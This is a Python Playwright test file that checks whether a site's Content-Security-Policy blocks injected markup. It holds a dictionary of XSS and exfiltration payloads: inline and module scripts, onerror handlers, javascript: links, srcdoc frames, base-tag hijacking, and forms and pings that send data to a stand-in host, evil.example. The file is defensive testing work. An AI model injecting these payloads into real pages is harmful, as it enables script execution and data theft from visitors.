"""What the pages' policy stops in a real browser: markup that got into a page all the same does no harm there.

Each line is tried twice, on a host that sends no headers: without the policy, where it does its harm (or the line would
show nothing), and with it. What is refused before it comes that far is tested elsewhere.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route
from tests.browser.conftest import Server

EVIL = "https://evil.example"
ADDRESS = "thoa-thuan/ky-ket/"
RUN = "document.documentElement.dataset.ran=1"
ATTACKS = {
    "an inline script": f"<script>{RUN}</script>",
    "a module": f"<script type=module>{RUN}</script>",
    "a script of another host": f"<script src={EVIL}/a.js></script>",
    "a script in its address": f'<script src="data:text/javascript,{RUN}"></script>',
    "an event handler": f"<img src=x onerror={RUN}>",
    "an event handler of a drawing": f"<svg onload={RUN}>",
    "a javascript: link": f'<a id=click href="javascript:{RUN}">x</a>',
    "a link that an animation makes one": f'<svg><a id=click><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a></svg>',
    "a page in a frame": f"<iframe src={EVIL}/></iframe>",
    "a frame that is given its page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "an object": f"<object data={EVIL}/></object>",
    "every relative address moved": f"<base href={EVIL}/><img src=z.png>",
    "a form": f"<form action={EVIL}/><input name=q><button id=click>x</button></form>",
    "a form whose button says where": f"<form><button id=click formaction={EVIL}/>x</button></form>",
    "the rest of the page in a form": f"<form method=post action={EVIL}/><button id=click>x</button><textarea name=q>",
    "a picture of another host": f"<img src={EVIL}/i.png>",
    "a picture for a drawing": f"<svg><image href={EVIL}/i.png width=9 height=9 /></svg>",
    "sound": f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    "a stylesheet of another host": f"<link rel=stylesheet href={EVIL}/a.css>",
    "styles": f"<style>body{{background:url({EVIL}/b.png)}}</style>",
    "a style": f'<p style="background:url({EVIL}/b.png)">x</p>',
    "a preload": f"<link rel=preload as=image href={EVIL}/p.png>",
    "a module's preload": f"<link rel=modulepreload href={EVIL}/a.js>",
    "a ping": f"<a id=click ping={EVIL}/p href=#noi-dung>x</a>",
}


def harm(page: Page, server: Server, markup: str, *, policy: bool) -> list[str]:
    """What markup within an article achieves when the page is opened: requests to the other host, or a script that ran."""
    asked: list[str] = []

    def other_host(route: Route) -> None:
        asked.append(f"asked {route.request.url[:80]}")
        style = route.request.url.endswith(".css")
        route.fulfill(body="" if style else RUN, content_type="text/css" if style else "text/javascript")

    html = (server.site / ADDRESS / "index.html").read_text("utf-8")
    html, count = re.subn(r"<article[^>]*>", lambda found: found.group() + markup, html, count=1)
    assert count == 1
    if not policy:
        html, count = re.subn(r"<meta http-equiv=\"?Content-Security-Policy[^>]*>", "", html)
        assert count == 1
    page.unroute_all()
    page.route(f"{EVIL}/**", other_host)
    page.route(server.url(ADDRESS), lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"))
    page.goto(server.url(ADDRESS))
    click = page.locator("#click")
    if click.count():
        click.first.dispatch_event("click")
    # What runs or loads does so within this; where nothing should, all of it is waited for.
    for _ in range(6):
        page.wait_for_timeout(50)
        if asked:  # the page may be on its way there: it is not looked at
            return asked
    return ["ran"] if page.evaluate("'ran' in document.documentElement.dataset") else []


@pytest.mark.parametrize("what", ATTACKS)
def test_markup_that_got_in_does_no_harm(opened: Callable[..., Page], server: Server, what: str) -> None:
    page, markup = opened(), ATTACKS[what]
    assert harm(page, server, markup, policy=True) == [], f"{what}: the policy (finish/policy.py) lets it through"
    assert harm(page, server, markup, policy=False), f"{what}: harmless even without the policy: this shows nothing"
